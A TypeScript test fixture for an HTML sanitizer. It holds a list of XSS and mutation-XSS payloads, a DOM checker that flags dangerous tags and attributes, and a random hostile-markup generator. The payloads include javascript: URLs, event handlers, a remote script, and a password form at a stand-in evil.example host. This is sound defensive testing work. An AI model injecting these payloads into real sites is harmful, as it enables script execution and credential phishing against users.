// Hostile HTML shared by the unit tests (happy-dom) and the HostileInput story (Chromium).
import fc from 'fast-check';
import { isAllowedResourceUrl } from './sanitizeHtml';

const LINK_ATTRIBUTES = ['href', 'xlink:href'];
const RESOURCE_ATTRIBUTES = ['src', 'srcset', 'poster', 'cite', 'action', 'formaction', 'background'];
// Independent of the app's rule on purpose: a link may only be a web, mail or phone address or a path on the site.
const isSafeLink = (href: string) => /^(https?:|mailto:|tel:)/i.test(href) || /^\/(?![/\\])/.test(href);
const FORBIDDEN_TAGS = [
  'script',
  'svg',
  'math',
  'iframe',
  'object',
  'embed',
  'style',
  'form',
  'base',
  'meta',
  'link',
];

/** Classic payloads and published DOMPurify / mutation-XSS bypass shapes. */
export const HOSTILE_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E">',
  '<img srcset="https://ok.example/a.jpg 1x, javascript:alert(1) 2x">',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<template><script>alert(1)</script></template>',
  '<video poster="javascript:alert(1)"></video>',
  '<a href="https://evil.example" target="_blank">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="ftp://files.example/a">x</a>',
  '<div class="fixed inset-0 z-50">Your session expired: sign in again</div>',
  '<div style="position:fixed;inset:0">x</div>',
  '<div popover="manual" id="fake">x</div>',
  '<a href="https://evil.example" target="opener">x</a>',
  '<img id="location" name="cookie" src="/a.png">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><img src=x onerror=alert(1)>',
  '<div><p>unclosed <img src=x onerror=alert(1)',
] as const;

/** What must never survive sanitising, read from the parsed DOM rather than the string. */
export function dangersIn(markup: string): string[] {
  const doc = new DOMParser().parseFromString(`<body>${markup}</body>`, 'text/html');
  return dangersInTree(doc.body);
}

export function dangersInTree(root: Element): string[] {
  const found: string[] = [];
  for (const element of Array.from(root.querySelectorAll('*'))) {
    const tag = element.localName;
    if (FORBIDDEN_TAGS.includes(tag)) found.push(`<${tag}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      if (/^on/i.test(name)) found.push(`${tag}[${name}]`);
      if (['style', 'class', 'popover', 'popovertarget'].includes(name)) found.push(`${tag}[${name}]`);
      if (LINK_ATTRIBUTES.includes(name) && !isSafeLink(value)) found.push(`${tag}[${name}=${value}]`);
      const urls =
        name === 'srcset' ? value.split(',').map((part) => part.trim().split(/\s+/)[0] ?? '') : [value];
      if (RESOURCE_ATTRIBUTES.includes(name) && !urls.every(isAllowedResourceUrl)) {
        found.push(`${tag}[${name}=${value}]`);
      }
    }
    if (
      element.getAttribute('target') === '_blank' &&
      element.getAttribute('rel') !== 'noopener noreferrer'
    ) {
      found.push(`${tag}[target=_blank] without rel`);
    }
  }
  return found;
}

/** Random tag soup built from dangerous pieces: tags, handlers, script URLs and parser-confusing fragments. */
export function hostileMarkup() {
  const tag = fc.constantFrom(
    'script',
    'img',
    'a',
    'svg',
    'math',
    'p',
    'div',
    'iframe',
    'style',
    'details',
    'noscript',
    'form',
    'video',
    'template',
    'mglyph',
    'mtext',
    'table',
    'title',
    'textarea',
    'xmp',
  );
  const attribute = fc.oneof(
    fc.tuple(
      fc.constantFrom('onerror', 'onload', 'OnClick', 'onmouseover', 'ontoggle', 'onbegin', 'onfocus'),
      fc.constant('alert(1)'),
    ),
    fc.tuple(
      fc.constantFrom('href', 'src', 'xlink:href', 'srcset', 'action', 'poster'),
      fc.constantFrom(
        'javascript:alert(1)',
        'java\tscript:alert(1)',
        '&#106;avascript:alert(1)',
        'JAVASCRIPT:alert(1)',
        'data:text/html,<script>alert(1)</script>',
        'vbscript:x',
        'https://ok.example/a',
        '/relative',
        '//evil.example',
        '/\\evil.example',
        ' mailto:a@b.example',
      ),
    ),
    fc.tuple(
      fc.constantFrom('style', 'class', 'popover', 'title', 'id', 'target', 'srcdoc'),
      fc.string({ maxLength: 20 }),
    ),
  );
  const quote = (value: string) => `"${value.replaceAll('"', '&quot;')}"`;
  const element = fc
    .tuple(tag, fc.array(attribute, { maxLength: 3 }), fc.string({ maxLength: 12 }), fc.boolean())
    .map(
      ([name, attrs, text, close]) =>
        `<${name}${attrs.map(([key, value]) => ` ${key}=${quote(value)}`).join('')}>${text}${close ? `</${name}>` : ''}`,
    );
  const noise = fc.constantFrom(
    '<!--',
    '-->',
    '</',
    '<',
    '>',
    '"',
    "'",
    '</noscript>',
    '</style>',
    '<![CDATA[',
    ']]>',
    '</title>',
  );
  return fc
    .array(fc.oneof(element, fc.string({ maxLength: 10 }), noise), { maxLength: 12 })
    .map((parts) => parts.join(''));
}
